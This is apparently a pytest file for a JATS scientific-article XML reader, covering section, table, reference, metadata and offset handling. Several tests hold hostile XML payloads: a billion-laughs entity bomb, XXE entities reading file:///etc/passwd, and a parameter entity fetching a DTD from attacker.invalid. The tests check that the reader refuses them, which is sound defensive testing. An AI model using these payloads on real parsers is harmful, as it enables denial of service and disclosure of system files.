"""JATS ingest on two real articles (tests/fixtures/README.md): sections, tables, references and front matter as
the XML states them; offsets back into the XML; hostile XML refused without expanding or fetching anything."""

from __future__ import annotations

import socket
from pathlib import Path

import pytest

from extractor.errors import MarkupError, UnsupportedFormat
from extractor.ingest import load_document
from extractor.ingest.document import Document
from extractor.ingest.jats import read_jats
from extractor.record import ArticleType, SourceFormat

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
BMC = FIXTURES / "PMC1810515.nxml"  # RCT, structured abstract, 3 tables, 2 figures
HINDAWI = FIXTURES / "PMC4735920.fulltext.xml"  # case report, 1 table with row and column spans, 1 figure
FRAGMENT = FIXTURES / "yun2024" / "PMC4458006.xml"  # <abstract><sec>: no <article> root, xlink: undeclared


@pytest.fixture(scope="module")
def bmc() -> Document:
    return read_jats(BMC, BMC.read_bytes())


@pytest.fixture(scope="module")
def hindawi() -> Document:
    return read_jats(HINDAWI, HINDAWI.read_bytes())


def _headed(doc: Document) -> list[tuple[str, str | None]]:
    return [(s.name, s.heading) for s in doc.sections if s.heading]


def _text_of(doc: Document, name: str) -> str:
    return "".join(doc.text[s.start : s.end] for s in doc.sections if s.name == name)


def test_sections_are_named_from_the_sec_titles(bmc: Document) -> None:
    headed = _headed(bmc)
    for expected in [
        ("abstract", "Background"),
        ("abstract", "Trial Registration"),
        ("introduction", "Background"),
        ("methods", "Statistical analysis"),
        ("results", "Safety"),
        ("discussion", "Discussion"),
        ("conclusion", "Conclusion"),
        ("other", "Competing interests"),
        ("other", "Acknowledgements"),
    ]:
        assert expected in headed
    assert bmc.text.startswith("Pharmacokinetic profile of a 24-hour controlled-release OROS® formulation")
    assert bmc.sections[0].name == "other"  # the title
    assert "In an open-label, three-way, crossover study" in _text_of(bmc, "abstract")


def test_nested_secs_keep_their_top_level_name(bmc: Document, hindawi: Document) -> None:
    # "Subjects" is a subsection of Methods and of Results; classify_heading alone would not say which.
    assert [name for name, heading in _headed(bmc) if heading == "Subjects"] == ["methods", "results"]
    assert ("results", "2. Case Presentation") in _headed(hindawi)


def test_reading_order_body_then_floats_then_references(bmc: Document) -> None:
    first: dict[str, int] = {}
    for s in bmc.sections:
        first.setdefault(s.name, s.start)
    order = ["abstract", "introduction", "methods", "results", "discussion", "conclusion", "table", "references"]
    assert [first[name] for name in order] == sorted(first[name] for name in order)
    assert bmc.sections[-1].name == "references"


def test_sections_are_contiguous(bmc: Document, hindawi: Document) -> None:
    for doc in (bmc, hindawi):
        assert doc.sections[0].start == 0 and doc.sections[-1].end == len(doc.text)
        assert all(a.end == b.start for a, b in zip(doc.sections, doc.sections[1:], strict=False))


def test_table_rows_caption_and_flattened_text(bmc: Document) -> None:
    assert [t.label for t in bmc.tables] == ["Table 1", "Table 2", "Table 3"]
    table = bmc.tables[2]
    assert table.caption == "Adverse events [n (%)] occurring in ≥ 10% of subjects in any treatment group"
    assert table.rows[0] == [
        "Event",
        "Treatment Regimen A (fasting; n = 28)",
        "Treatment Regimen B (fed; n = 29)",
        "Treatment Regimen C (fasting with naltrexone block; n = 27)",
    ]
    assert table.rows[1] == ["Nausea", "6 (21.4)", "9 (31.0)", "7 (25.9)"]
    flat = bmc.text[table.start : table.end]
    assert flat.startswith("Table 3 Adverse events [n (%)]")
    assert "\nNausea | 6 (21.4) | 9 (31.0) | 7 (25.9)\n" in flat
    assert bmc.section_at(table.start) == "table" and bmc.section_at(table.end - 1) == "table"


def test_row_and_column_spans_expand_to_a_grid(hindawi: Document) -> None:
    (table,) = hindawi.tables
    assert (table.label, table.caption) == ("Table 1", "Pentobarbital-containing veterinary euthanasia solutions [12].")
    assert table.rows[0] == ["Pentobarbital-containing veterinary euthanasia solutions", "", "", ""]  # colspan=4
    assert table.rows[3][0] == "Pentobarbital sodium for injection"  # rowspan=3 ...
    assert table.rows[4][:2] == ["", "389 mg/mL in 100 mL or 250 mL vials"]  # ... covers the rows below
    assert {len(row) for row in table.rows} == {4}


def test_table_header_rows_and_cell_spans(bmc: Document, hindawi: Document) -> None:
    assert [t.header_rows for t in bmc.tables] == [1, 1, 1]  # <thead>
    for doc in (bmc, hindawi):
        for table in doc.tables:
            assert table.spans is not None and len(table.spans) == len(table.rows)
            for row, spans in zip(table.rows, table.spans, strict=True):
                for cell, span in zip(row, spans, strict=True):
                    assert cell == "" or doc.text[span[0] : span[1]] == cell
    (table,) = hindawi.tables
    assert table.header_rows == 2
    assert len({span for span in table.spans[0]}) == 1  # colspan=4: every covered position holds the cell's span
    assert table.filled(hindawi.text)[4][0] == "Pentobarbital sodium for injection"  # rowspan=3 covers row 4


# Table 2 of "Duloxetine in the treatment of Major Depressive Disorder...", BMC Psychiatry (PMC546184, CC-BY 2.0; from
# Evidence Inference), first rows; its rule-only header row kept.
FOOTNOTED_TABLE = (
    '<sec><title>Results</title><p>See Table 2.</p><table-wrap id="T2"><label>Table 2</label><caption><p>Baseline '
    "demographics and illness severity (all studies)<sup>&#x02020;</sup></p></caption><table><thead><tr><td></td>"
    "<td>Melancholic (N = 1572)</td><td>Non-melancholic (N = 770)</td><td><italic>p</italic>-value</td></tr>"
    '<tr><td colspan="4"><hr/></td></tr></thead><tbody><tr><td>Gender, n (%)</td><td></td><td></td><td></td></tr>'
    "<tr><td>&#x02003;Female</td><td>1092 (69.5)</td><td>468 (60.8)</td><td>&#x0003c;.001</td></tr></tbody>"
    "</table><table-wrap-foot><fn><p><sup>&#x02020;</sup>Includes patients from paroxetine and fluoxetine treatment "
    "arms (N = 429).</p></fn></table-wrap-foot></table-wrap></sec>"
)


def test_table_footnotes_and_thead_without_rule_rows() -> None:
    doc = read_jats(Path("foot.xml"), _article(FOOTNOTED_TABLE))
    (table,) = doc.tables
    assert table.header_rows == 1  # the <hr/> row of <thead> is not a row of the table
    assert table.rows[2] == ["Female", "1092 (69.5)", "468 (60.8)", "<.001"]
    assert table.footnotes == ["†Includes patients from paroxetine and fluoxetine treatment arms (N = 429)."]
    assert doc.text[table.start : table.end].endswith("\n" + table.footnotes[0])


def test_header_read_from_the_layout_without_thead() -> None:
    body = FOOTNOTED_TABLE.replace("<thead>", "").replace("</thead><tbody>", "").replace("</tbody>", "")
    (table,) = read_jats(Path("nothead.xml"), _article(body)).tables
    assert table.header_rows == 1  # the rows before the first row with a value right of the row labels


def test_figure_captions_leave_the_body(hindawi: Document) -> None:
    figures = [s for s in hindawi.sections if s.name == "figure_caption"]
    assert [hindawi.text[s.start : s.end].strip() for s in figures] == ["Figure 1 Euthasol bottle and syringes."]
    assert figures[0].start > max(s.start for s in hindawi.sections if s.name == "discussion")


def test_references_are_kept_apart(hindawi: Document) -> None:
    (refs,) = [s for s in hindawi.sections if s.name == "references"]
    assert refs is hindawi.sections[-1]
    listing = hindawi.text[refs.start : refs.end]
    assert listing.startswith("1 Greenblatt D. J. Allen D.")
    assert listing.count("\n") >= 14  # one line per reference
    assert "secobarbital" not in hindawi.text[: refs.start]
    assert "traumatic brain injury [1]." in _text_of(hindawi, "discussion")


def test_front_matter_metadata(bmc: Document, hindawi: Document) -> None:
    assert bmc.metadata == {
        "title": "Pharmacokinetic profile of a 24-hour controlled-release OROS® formulation of hydromorphone in "
        "the presence and absence of food",
        "doi": "10.1186/1472-6904-7-2",
        "pmid": "17270055",
        "pmcid": "PMC1810515",
        "journal": "BMC Clinical Pharmacology",
        "year": 2007,
    }  # research-article: no article_type, the text classifier decides (rct)
    assert hindawi.metadata == {
        "title": "Pentobarbital Toxicity after Self-Administration of Euthasol Veterinary Euthanasia Medication",
        "doi": "10.1155/2016/6270491",
        "pmcid": "PMC4735920",
        "journal": "Case Reports in Emergency Medicine",
        "year": 2016,
        "article_type": ArticleType.case_report,
    }


def test_offsets_point_into_the_xml(hindawi: Document) -> None:
    raw = HINDAWI.read_text(encoding="utf-8")
    for word in ("Euthasol", "fasciotomy", "Greenblatt", "Concentrations", "Pentobarbital-containing"):
        at = hindawi.text.index(word)
        src = hindawi.offset_map.to_source(at)
        assert raw[src : src + len(word)] == word
    micro = hindawi.offset_map.to_source(hindawi.text.index("μg/mL"))
    assert raw[micro:].startswith("&#x003bc;</italic>g/mL")  # a character reference maps to where it stands


def _article(body: str, doctype: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<article article-type="review-article"><front>'
        f"<article-meta><title-group><article-title>A title</article-title></title-group></article-meta>"
        f"</front><body>{body}</body></article>"
    ).encode()


def test_inline_markup_spacing() -> None:
    data = _article(
        '<sec sec-type="results"><title>Efficacy</title><p>Levels of 12.6&#x2009;<italic>&#x3bc;</italic>g/mL '
        'were seen in cancer<sup><xref ref-type="bibr" rid="b1">12</xref></sup>, and <bold>not</bold> in '
        "others.<list><list-item><p>first item</p></list-item><list-item><p>second item</p></list-item></list>"
        "Then the text goes on.</p></sec>"
    )
    doc = read_jats(Path("inline.xml"), data)
    assert (
        "Levels of 12.6 μg/mL were seen in cancer 12, and not in others.\n\nfirst item\n\nsecond item\n\n"
        "Then the text goes on." in doc.text
    )
    assert ("results", "Efficacy") in _headed(doc)  # from sec-type: the title is not a known heading
    assert doc.metadata["article_type"] is ArticleType.review


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE article [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<article><body><p>&lol9;</p></body></article>"""
XXE_FILE = """<?xml version="1.0"?>
<!DOCTYPE article [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<article><body><p>&xxe;</p></body></article>"""
XXE_PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE article [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<article><body><p>x</p></body></article>"""


@pytest.mark.parametrize("payload", [BILLION_LAUGHS, XXE_FILE, XXE_PARAMETER], ids=["billion-laughs", "xxe", "xxe-dtd"])
def test_entity_attacks_are_refused_without_network(payload: str, monkeypatch: pytest.MonkeyPatch) -> None:
    def no_network(*args: object, **kwargs: object) -> None:
        raise AssertionError("the reader tried to open a network connection")

    monkeypatch.setattr(socket, "socket", no_network)
    with pytest.raises(MarkupError, match="refused"):
        read_jats(Path("evil.xml"), payload.encode())


def test_doctype_line_of_real_files_is_accepted() -> None:
    doctype = '<!DOCTYPE article PUBLIC "-//NLM//DTD JATS (Z39.96) Journal Archiving DTD v1.1//EN" "JATS-archive.dtd">'
    doc = read_jats(Path("ok.xml"), _article("<p>Some body text.</p>", doctype))
    assert doc.text == "A title\n\nSome body text."


@pytest.mark.parametrize("data", [b"<article><body><p>unclosed</body></article>", b"<article>&nbsp;</article>"])
def test_malformed_xml_raises_markup_error(data: bytes) -> None:
    with pytest.raises(MarkupError, match="malformed"):
        read_jats(Path("bad.xml"), data)


def test_xml_that_is_not_jats_is_unsupported() -> None:
    with pytest.raises(UnsupportedFormat):
        read_jats(Path("feed.xml"), b"<rss><channel><title>news</title></channel></rss>")


def test_load_document_reads_nxml_as_jats() -> None:
    doc = load_document(BMC)
    assert doc.source.format is SourceFormat.xml and len(doc.tables) == 3


def test_absurd_nesting_is_refused_not_crashed() -> None:
    deep = "<sec>" * 5000 + "<p>x</p>" + "</sec>" * 5000
    with pytest.raises(MarkupError, match="nested too deeply"):
        read_jats(Path("deep.xml"), _article(deep))


def test_fragments_without_an_article_root_are_read() -> None:
    doc = load_document(FRAGMENT)
    assert [(s.name, s.heading) for s in doc.sections if s.heading] == [
        ("abstract", "Background"),
        ("abstract", "Methods"),
        ("abstract", "Results"),
        ("abstract", "Conclusions"),
        ("results", "Results"),
        ("table", "Table 1"),
        ("figure_caption", "Fig. 8"),
    ]
    (table,) = doc.tables
    assert table.header_rows == 1 and table.rows[1] == [
        "MAIN TRUNK (group 1) Right side (operated)",
        "4.4",
        "9.7",
        "17.2",
    ]
    raw = FRAGMENT.read_text(encoding="utf-8")
    for word in ("allograft", "BIFURCATION", "vicryl", "Whisking"):
        src = doc.offset_map.to_source(doc.text.index(word))
        assert raw[src : src + len(word)] == word  # offsets into the file, not into the wrapped text


def test_fragment_title_opens_a_section_and_bare_table_gets_its_foot() -> None:
    data = (
        b"<abstract><p>Randomized trial of iodine.</p></abstract><title>Results</title><sec><title>Baseline</title>"
        b"<p>Groups were similar.</p></sec><table><thead><tr><th/><th>Iodine</th></tr></thead><tbody><tr><td>Age</td>"
        b"<td>31 (4)</td></tr></tbody></table><table-wrap-foot><fn><p>Mean (SD).</p></fn></table-wrap-foot>"
        b"</table-wrap>"
    )  # the last end tag closes nothing: the part was cut out after its start tag
    doc = read_jats(Path("fragment.xml"), data)
    assert [(s.name, s.heading) for s in doc.sections if s.heading] == [("results", "Results"), ("results", "Baseline")]
    (table,) = doc.tables
    assert table.rows == [["", "Iodine"], ["Age", "31 (4)"]] and table.footnotes == ["Mean (SD)."]


def test_fragments_after_a_cut_off_part_are_read_with_a_warning() -> None:
    good = b"<abstract><p>Metformin lowered HbA1c.</p></abstract><sec><title>Results</title><p>Yes.</p></sec>"
    doc = read_jats(Path("joined.xml"), b"<sec><p>the end of another article (<italic>A</ita" + good)
    assert doc.text.startswith("Metformin lowered HbA1c.")
    assert any(w.startswith("W009") for w in doc.warnings)
    src = doc.offset_map.to_source(doc.text.index("Yes."))
    assert (b"<sec><p>the end of another article (<italic>A</ita" + good).decode()[src : src + 4] == "Yes."


@pytest.mark.parametrize(
    ("payload", "error"),
    [
        ('<!DOCTYPE abstract [<!ENTITY x "boom">]><abstract><p>&x;</p></abstract><sec><p>b</p></sec>', "refused"),
        (
            '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><abstract><p>&xxe;</p>'
            "</abstract><sec><p>b</p></sec>",
            "refused",
        ),
        ("<abstract><p>a</p></abstract><!DOCTYPE a [<!ENTITY x 'y'>]><sec><p>&x;</p></sec>", "malformed"),
        ('<!DOCTYPE a [<!ENTITY x "y">]><abstract><p>&x;</p></abstract><abstract><p>a</p></abstract><sec/>', "refused"),
    ],
    ids=["entity", "xxe", "doctype-inside", "not-read-around"],
)
def test_fragment_wrapper_still_refuses_entity_declarations(
    payload: str, error: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_network(*args: object, **kwargs: object) -> None:
        raise AssertionError("the reader tried to open a network connection")

    monkeypatch.setattr(socket, "socket", no_network)
    with pytest.raises(MarkupError, match=error):
        read_jats(Path("evil.xml"), payload.encode())
